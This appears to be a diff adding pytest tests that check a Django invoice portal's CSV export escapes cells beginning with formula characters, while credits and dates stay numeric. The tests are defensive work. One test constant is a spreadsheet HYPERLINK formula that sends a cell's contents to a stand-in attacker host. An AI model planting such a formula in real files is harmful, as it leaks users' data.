@@ -1,0 +1,60 @@
+"""The CSV export opens in a spreadsheet as data: text that would start a formula is escaped
+(OWASP: a leading single quote), plain numbers such as -12.50 stay numbers."""
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+
+from portal.csv_export import csv_safe_cell, csv_writer
+from tests.invoices.factories import line, make_invoice
+from tests.portal.factories import BrandFactory, ClientFactory, MembershipFactory
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open invoice")'
+
+
+@pytest.mark.parametrize("text", [
+    "=1+1", HYPERLINK, "+31 20 123 4567", "-A1", "-1+2", "-12.50e3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+    "=", "-", "+12", "-.5", "--12",
+])
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_escaped(text):
+    assert csv_safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", [Decimal("-12.50"), "-12.50", "-12", Decimal("0.00"), 121, "2026-11-25"])
+def test_plain_numbers_and_dates_stay_as_they_are(value):
+    # -12.50 is a credit; written as '-12.50 a finance user could no longer add it up.
+    assert csv_safe_cell(value) == str(value)
+
+
+@pytest.mark.parametrize("text", ["INV-1", "PO =1", "a@b.test", "", "Ω-12", " =1+1"])
+def test_text_that_does_not_start_a_formula_is_unchanged(text):
+    assert csv_safe_cell(text) == text
+
+
+def test_none_is_an_empty_cell():
+    assert csv_safe_cell(None) == ""
+
+
+def test_the_writer_escapes_every_cell_and_still_quotes_for_csv():
+    buffer = io.StringIO()
+    csv_writer(buffer).writerows([["number", "amount"], [HYPERLINK, Decimal("-12.50")], ['say "hi", =1', "@x"]])
+    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
+    assert rows == [["number", "amount"], ["'" + HYPERLINK, "-12.50"], ['say "hi", =1', "'@x"]]
+
+
+def test_the_invoice_export_escapes_text_from_accounting(db, client):
+    brand = BrandFactory(is_default=True)
+    alpha = ClientFactory(brand=brand, name="Alpha B.V.")
+    owner = MembershipFactory(client=alpha, user__email="owner@alpha.test", user__language="en").user
+    make_invoice(alpha, number="@INV-1", purchase_order=HYPERLINK, lines=[line(unit_price="100.00")])
+    make_invoice(alpha, number="INV-2", purchase_order="-PO-7", lines=[line(unit_price="10.00")])
+    client.force_login(owner)
+    response = client.get(reverse("invoices:export_csv"))
+    assert response.status_code == 200
+    rows = {r["number"]: r for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
+    assert rows["'@INV-1"]["purchase_order"] == "'" + HYPERLINK
+    assert rows["'@INV-1"]["total"] == "121.00" and rows["'@INV-1"]["open_balance"] == "121.00"
+    assert rows["INV-2"]["purchase_order"] == "'-PO-7"
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row.values())
